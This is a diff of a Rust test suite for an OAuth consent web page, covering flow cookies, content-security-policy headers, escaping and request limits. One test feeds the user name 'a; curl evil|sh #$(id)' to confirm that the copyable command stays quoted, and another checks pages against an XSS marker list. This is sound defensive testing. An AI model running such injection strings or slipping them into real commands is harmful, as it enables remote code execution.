@@ -11,12 +11,15 @@ use bearerd_control::{BegunConsent, Callback, ConsentFault, LinkPage};
 use bearerd_model::{
     ConnectionId, ConsentOutcome, ConsentResult, InstanceOrigin, IntegrationId, SecretText, UnixTime,
 };
+use bearerd_net::{ListenSettings, Listener};
 use bytes::Bytes;
 use http::{Method, Request, Response, StatusCode};
 use http_body_util::{BodyExt, Full};
 use proptest::prelude::*;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio_util::sync::CancellationToken;
 
-use crate::{ConnectSettings, Consents, Router};
+use crate::{ConnectDoor, ConnectSettings, Consents, Router, router::REQUESTS_MAX};
 
 const HTTPS: &str = "https://connect.example";
 const HTTP: &str = "http://127.0.0.1:8081";
@@ -28,8 +31,8 @@ struct Script {
     page: LinkPage,
     /// Spent links.
     spent: Mutex<HashSet<String>>,
-    /// `state` and cookie of the flows that run, by number.
-    flows: Mutex<HashMap<String, (String, String)>>,
+    /// The cookie's value of each flow that runs, by `state`.
+    flows: Mutex<HashMap<String, String>>,
     exchanges: Mutex<u32>,
     result: ConsentResult,
     /// What every act fails with.
@@ -42,6 +45,7 @@ impl Script {
             connection: ConnectionId::parse("hr-prod").unwrap(),
             integration: IntegrationId::parse("hr").unwrap(),
             instance: InstanceOrigin::parse(INSTANCE).unwrap(),
+            authorization_origin: INSTANCE.to_owned(),
             requested_by: "maria".to_owned(),
             expected_user: Some("abel.tuter".to_owned()),
             scopes: vec!["useraccount".to_owned()],
@@ -74,21 +78,25 @@ impl Consents for Script {
         self.spent.lock().unwrap().insert(link.expose().to_owned());
         let mut flows = self.flows.lock().unwrap();
         let number = flows.len() + 1;
-        let (state, name, value) =
-            (format!("5tate{number}"), format!("bearerd-{number}"), format!("v{number}"));
-        flows.insert(state.clone(), (name.clone(), value.clone()));
+        let (state, value) = (format!("5tate{number}"), format!("v{number}"));
+        flows.insert(state.clone(), value.clone());
         Ok(BegunConsent {
             authorization_url: format!("{INSTANCE}/oauth_auth.do?response_type=code&state={state}"),
-            cookie_name: name,
+            cookie_name: self.consent_cookie_name(&SecretText::parse(state).unwrap()),
             cookie_value: SecretText::parse(value).unwrap(),
         })
+    }
+
+    fn consent_cookie_name(&self, state: &SecretText) -> String {
+        format!("bearerd-{}", state.expose().trim_start_matches("5tate"))
     }
 
     async fn finish_consent(&self, callback: Callback) -> Result<ConsentOutcome, ConsentFault> {
         self.refused()?;
         let state = callback.state.ok_or(ConsentFault::StateInvalid)?;
         let flow = self.flows.lock().unwrap().remove(state.expose()).ok_or(ConsentFault::StateInvalid)?;
-        let ours = |(name, value): &(String, SecretText)| *name == flow.0 && value.expose() == flow.1;
+        let cookie_name = self.consent_cookie_name(&state);
+        let ours = |(name, value): &(String, SecretText)| *name == cookie_name && value.expose() == flow;
         if !callback.cookies.iter().any(ours) {
             return Err(ConsentFault::OtherBrowser);
         }
@@ -116,7 +124,8 @@ fn connected() -> ConsentResult {
     ConsentResult::Connected {
         connection: ConnectionId::parse("hr-prod").unwrap(),
         instance: InstanceOrigin::parse(INSTANCE).unwrap(),
-        user: "abel.tuter".to_owned(),
+        user: "Abel Tuter".to_owned(),
+        user_name: "abel.tuter".to_owned(),
         awaits_confirmation: true,
     }
 }
@@ -228,9 +237,12 @@ async fn a_consent_runs_from_link_to_result() {
     assert_eq!((back.status, back.header("location")), (StatusCode::SEE_OTHER, "/connect/done/outcome1"));
     let done = bench.get(back.header("location")).await;
     assert_eq!(done.status, 200);
-    for shown in
-        ["hr.service-now.com", "abel.tuter", "bearerd connection confirm hr-prod --user abel.tuter", "<svg"]
-    {
+    for shown in [
+        "hr.service-now.com",
+        "Abel Tuter",
+        "bearerd connection confirm hr-prod --user abel.tuter</code>",
+        "<svg",
+    ] {
         assert!(done.body.contains(shown), "{shown}");
     }
 }
@@ -291,20 +303,11 @@ async fn every_answer_carries_the_security_headers() {
 #[track_caller]
 fn check_page(what: &str, answer: &Answer) {
     assert_eq!(answer.header("content-type"), "text/html; charset=utf-8", "{what}");
-    for absent in [
-        "<script",
-        "javascript:",
-        " src=",
-        " href=",
-        "url(",
-        "@import",
-        " style=",
-        " on",
-        "http://",
-        "https://",
-    ] {
-        let inner = answer.body.split("<body>").nth(1).unwrap();
-        assert!(absent == " on" || !inner.contains(absent), "{absent} in {what}");
+    let inner = answer.body.split("<body>").nth(1).unwrap();
+    for absent in
+        ["<script", "javascript:", " src=", " href=", "url(", "@import", " style=", "http://", "https://"]
+    {
+        assert!(!inner.contains(absent), "{absent} in {what}");
     }
     for present in ["<!doctype html>", "<html lang=\"en\">", "name=\"viewport\"", "noindex"] {
         assert!(answer.body.contains(present), "{present} in {what}");
@@ -331,30 +334,38 @@ async fn the_policy_admits_the_style_and_nothing_else() {
 async fn a_plain_instance_admits_itself_only() {
     let mut script = Script::new(connected());
     script.page.instance = InstanceOrigin::parse("http://127.0.0.1:9000").unwrap();
+    script.page.authorization_origin = "http://127.0.0.1:9000".to_owned();
     let page = Bench::with(HTTP, script).get("/connect/good").await;
     assert!(page.header("content-security-policy").ends_with("; form-action 'self' http://127.0.0.1:9000"));
+}
+
+/// The form leads to the authorization endpoint, wherever the integration has it.
+#[tokio::test]
+async fn an_authorization_endpoint_elsewhere_is_admitted_in_place_of_the_instance() {
+    let mut script = Script::new(connected());
+    script.page.authorization_origin = "https://sso.example:8443".to_owned();
+    let page = Bench::with(HTTPS, script).get("/connect/good").await;
+    let policy = page.header("content-security-policy");
+    assert!(policy.ends_with("; form-action 'self' https://sso.example:8443 https:"), "{policy}");
+    assert!(page.body.contains("hr.service-now.com"), "the person is told of the instance");
 }
 
 /// O-05: what the browser is told to keep, at https and on loopback.
 #[tokio::test]
 async fn a_flow_begins_with_its_cookie() {
     for (public_url, expected) in [
-        (HTTPS, ("__Host-bearerd-1=v1.", "; Path=/; Max-Age=600; HttpOnly; SameSite=Lax; Secure")),
-        (HTTP, ("bearerd-1=v1.", "; Path=/; Max-Age=600; HttpOnly; SameSite=Lax")),
+        (HTTPS, "__Host-bearerd-1=v1; Path=/; Max-Age=600; HttpOnly; SameSite=Lax; Secure"),
+        (HTTP, "bearerd-1=v1; Path=/; Max-Age=600; HttpOnly; SameSite=Lax"),
     ] {
         let begun = Bench::with(public_url, Script::new(connected())).begin("good").await;
-        let set = begun.header("set-cookie");
-        assert!(set.starts_with(expected.0) && set.ends_with(expected.1), "{set}");
-        assert!(!set.to_ascii_lowercase().contains("domain"), "{set}");
+        assert_eq!(begun.header("set-cookie"), expected);
     }
 }
 
 /// O-02, O-03: no cookie, another flow's, a truncated one, or one that a neighbour planted.
 #[tokio::test]
 async fn a_callback_needs_the_cookie_of_its_flow() {
-    for cookies in
-        ["", "__Host-bearerd-2=v2.x", "__Host-bearerd-1=v.x", "__Host-bearerd-1=1", "bearerd-1=v1.x"]
-    {
+    for cookies in ["", "__Host-bearerd-2=v2", "__Host-bearerd-1=v", "__Host-bearerd-1=v2", "bearerd-1=v1"] {
         let bench = Bench::https();
         bench.begin("good").await;
         bench.begin("good2").await;
@@ -562,8 +573,9 @@ async fn hostile_text_is_shown_as_text() {
             message.clone_from(&payload);
             fix.clone_from(&payload);
         }
-        if let ConsentResult::Connected { user, .. } = &mut scripts[1].result {
+        if let ConsentResult::Connected { user, user_name, .. } = &mut scripts[1].result {
             user.clone_from(&payload);
+            *user_name = format!("x{payload}");
         }
         scripts[2].page.requested_by.clone_from(&payload);
         scripts[2].page.expected_user = Some(payload.clone());
@@ -598,6 +610,44 @@ async fn hostile_text_is_shown_as_text() {
     }
 }
 
+/// Who consented is named once where the instance has one name only, or where the outcome is an old one.
+#[tokio::test]
+async fn the_result_names_who_consented() {
+    for (named, user_named, shown, confirmed) in [
+        ("Abel Tuter", "abel.tuter", "Abel Tuter (abel.tuter)", "abel.tuter"),
+        ("abel.tuter", "abel.tuter", "abel.tuter", "abel.tuter"),
+        ("", "abel.tuter", "abel.tuter", "abel.tuter"),
+        ("Abel Tuter", "", "Abel Tuter", "&#39;Abel Tuter&#39;"),
+    ] {
+        let mut script = Script::new(connected());
+        if let ConsentResult::Connected { user, user_name, .. } = &mut script.result {
+            named.clone_into(user);
+            user_named.clone_into(user_name);
+        }
+        let page = Bench::with(HTTPS, script).get("/connect/done/outcome1").await;
+        let who = page.body.split("<span>as</span>").nth(1).unwrap().split("</p>").next().unwrap();
+        assert_eq!(text_of(who), shown);
+        assert!(page.body.contains(&format!("--user {confirmed}</code>")), "{named:?} {user_named:?}");
+    }
+}
+
+/// Markup taken away.
+fn text_of(html: &str) -> String {
+    let texts = html.split('<').map(|piece| piece.split_once('>').map_or(piece, |(_tag, text)| text));
+    texts.collect::<String>().trim().to_owned()
+}
+
+/// A user name is copied into a shell by an operator: it must stay one argument there.
+#[tokio::test]
+async fn the_command_on_the_page_is_safe_to_copy() {
+    let mut script = Script::new(connected());
+    if let ConsentResult::Connected { user_name, .. } = &mut script.result {
+        "a; curl evil|sh #$(id)".clone_into(user_name);
+    }
+    let page = Bench::with(HTTPS, script).get("/connect/done/outcome1").await;
+    assert!(page.body.contains("--user &#39;a; curl evil|sh #$(id)&#39;</code>"), "{}", page.body);
+}
+
 /// What a fault looks like from outside: status, code, `Retry-After`.
 #[tokio::test]
 async fn each_fault_has_its_status_and_code() {
@@ -611,12 +661,7 @@ async fn each_fault_has_its_status_and_code() {
     ] {
         let script = Script { fault: Some(fault.clone()), ..Script::new(connected()) };
         let bench = Bench::with(HTTPS, script);
-        let tag = crate::cookie::StateTag::of("s");
-        let set = crate::cookie::FlowCookies { https: true }
-            .set("f", &SecretText::parse("v".to_owned()).unwrap(), &tag)
-            .unwrap();
-        let cookie = set.to_str().unwrap().split(';').next().unwrap();
-        let back = bench.callback("code=c&state=s", cookie).await;
+        let back = bench.callback("code=c&state=5tate1", "__Host-bearerd-1=v1").await;
         assert_eq!(back.status, status, "{fault:?}");
         assert!(
             back.body.contains(fault.code()) && back.body.contains(back.header("x-request-id")),
@@ -683,6 +728,52 @@ async fn a_post_that_does_not_arrive_uses_nothing_up() {
     assert_eq!(read(bench.router.handle(post(Stuck::Silent)).await).await.status, 408);
     assert_eq!(read(bench.router.handle(post(Stuck::Broken)).await).await.status, 400);
     assert_eq!(bench.begin("good").await.status, 303);
+}
+
+/// Requests beyond the bound are told to come back, at once; when one ends there is room again.
+#[tokio::test(start_paused = true)]
+async fn more_requests_than_places_are_refused() {
+    let bench = Bench::https();
+    let waiting: Vec<_> = (0..REQUESTS_MAX)
+        .map(|_| {
+            let router = bench.router.clone();
+            let post = Request::post("/connect/good").body(Stuck::Silent).unwrap();
+            tokio::spawn(async move { router.handle(post).await.status() })
+        })
+        .collect();
+    // The tasks start while this one yields, a batch at a time; the clock stands still meanwhile.
+    let mut refused = bench.get("/connect/good").await;
+    while refused.status == StatusCode::OK {
+        tokio::task::yield_now().await;
+        refused = bench.get("/connect/good").await;
+    }
+    assert_eq!((refused.status, refused.header("retry-after")), (StatusCode::SERVICE_UNAVAILABLE, "5"));
+    assert!(refused.body.contains("overloaded"));
+    for task in waiting {
+        assert_eq!(task.await.unwrap(), 408);
+    }
+    assert_eq!(bench.get("/connect/good").await.status, 200);
+}
+
+/// The door on a real socket, until it is told to close.
+#[tokio::test]
+async fn the_door_serves_until_shutdown() {
+    let settings = ConnectSettings::default();
+    let listen = ListenSettings { address: "127.0.0.1:0".to_owned(), tls: None };
+    let listener = Listener::bind(&listen, ConnectDoor::ALPN).unwrap();
+    let address = listener.local_addr();
+    let shutdown = CancellationToken::new();
+    let script = Arc::new(Script::new(connected()));
+    let door = ConnectDoor::start(listener, &settings, script, shutdown.clone()).unwrap();
+    let mut socket = tokio::net::TcpStream::connect(address).await.unwrap();
+    let head = b"HEAD /connect/good HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n";
+    socket.write_all(head).await.unwrap();
+    let mut answer = String::new();
+    socket.read_to_string(&mut answer).await.unwrap();
+    assert!(answer.starts_with("HTTP/1.1 200 OK\r\n") && answer.ends_with("\r\n\r\n"), "{answer}");
+    assert!(answer.contains("content-security-policy: default-src 'none'"), "{answer}");
+    shutdown.cancel();
+    door.closed().await.unwrap();
 }
 
 proptest! {
